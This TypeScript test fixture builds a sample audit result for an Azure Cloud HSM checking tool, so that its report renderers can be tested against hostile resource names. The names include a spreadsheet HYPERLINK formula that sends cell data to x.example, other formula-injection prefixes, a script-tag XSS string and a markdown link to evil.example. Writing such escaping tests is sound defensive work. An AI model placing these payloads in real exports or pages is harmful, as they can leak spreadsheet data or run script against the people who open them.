// A result.json for renderer tests, built by hand: every status, every severity, and names chosen by a hostile
// tenant owner (formulas, markup, pipes, quotes, line breaks, control characters).
import { summarise } from "../../src/engine/evaluate.js";
import type { Finding, Result, ResultPolicy, Severity, Status } from "../../src/model/result.js";

export const SUB = "11111111-2222-4333-8444-555555555555";
export const hsmId = (name: string) =>
  `/subscriptions/${SUB}/resourceGroups/RG-HSM(prod)/providers/Microsoft.HardwareSecurityModules/cloudHsmClusters/${name}`;

/** Names an attacker who owns a subscription could give an HSM (ARM allows far less, but the tool must not care). */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://x.example/?a="&A1,"click")',
  "+1",
  "-2",
  "@SUM(A1:A2)",
  "\tTAB",
  "a|b`c`<script>alert(1)</script>",
  'quote"comma,new\nline',
  "ctl\u0001\u001bchar\ufffe[link](http://evil.example) @admin www.evil.example",
];

const policy = (id: string, severity: Severity): ResultPolicy => ({
  id,
  title: `Title of ${id}`,
  description: `What ${id} proves.`,
  severity,
  check: id,
  appliesTo: ["cloudHsm"],
  rationale: `Why ${id} matters.`,
  references: [{ title: "Reference", url: "https://learn.microsoft.com/azure/" }],
  frameworks: [{ framework: "PCI DSS 4.0", control: "10.2.1" }],
});

export const POLICIES: ResultPolicy[] = [
  policy("critical-policy", "critical"),
  policy("high-policy", "high"),
  policy("medium-policy", "medium"),
  policy("low-policy", "low"),
  policy("info-policy", "info"),
];

const STATUS_CYCLE: Status[] = ["fail", "error", "waived", "manual", "not_applicable", "pass"];

/** One finding per (policy, HSM); statuses cycle so that every policy has several. */
export function sampleResult(names: string[] = ["chsm-ok", ...HOSTILE_NAMES]): Result {
  const findings: Finding[] = [];
  let n = 0;
  for (const p of POLICIES) {
    for (const name of names) {
      const status = STATUS_CYCLE[n++ % STATUS_CYCLE.length]!;
      const needsFix = status !== "pass" && status !== "not_applicable";
      findings.push({
        policyId: p.id,
        resourceId: hsmId(name),
        status,
        severity: p.severity,
        message: `${name} ${status}s ${p.id}.`,
        evidence: status === "pass" ? ["ev-00001"] : [],
        remediation: {
          azCli: needsFix ? `az monitor diagnostic-settings list --resource '${hsmId(name)}'\naz second line` : "",
          powershell: needsFix ? `Get-AzDiagnosticSetting -ResourceId '${hsmId(name)}'` : "",
        },
        title: p.title,
        ...(status === "waived"
          ? {
              waiver: {
                index: 1,
                reason: `Accepted <b>|${name}`,
                owner: "=owner",
                ticket: "SEC-1",
                expires: "2026-12-31",
              },
            }
          : {}),
      });
    }
  }
  return {
    schemaVersion: 1,
    tool: { name: "hsm-audit", version: "0.1.0" },
    runId: "5f0c1d2e-0000-4000-8000-00000000a11d",
    startedAt: "2026-11-01T10:00:00.000Z",
    finishedAt: "2026-11-01T10:01:00.000Z",
    scope: { cloud: "AzureCloud", subscriptions: [SUB], subscriptionNames: { [SUB]: "Payments | =prod" } },
    logWindow: { duration: "P7D", start: "2026-10-25T10:00:00.000Z", end: "2026-11-01T10:00:00.000Z" },
    failOn: "low",
    summary: summarise(findings, "low"),
    resources: names.map((name) => ({
      id: hsmId(name),
      type: "Microsoft.HardwareSecurityModules/cloudHsmClusters",
      kind: "cloudHsm",
      name,
      subscriptionId: SUB,
      resourceGroup: "RG-HSM(prod)",
      location: "eastus",
    })),
    findings,
    errors: [],
    evidence: [
      {
        id: "ev-00001",
        method: "GET",
        url: "https://management.azure.com/x",
        status: 200,
        capturedAt: "2026-11-01T10:00:01.000Z",
        sha256: "0".repeat(64),
        purpose: "test",
      },
    ],
    policies: POLICIES,
  };
}
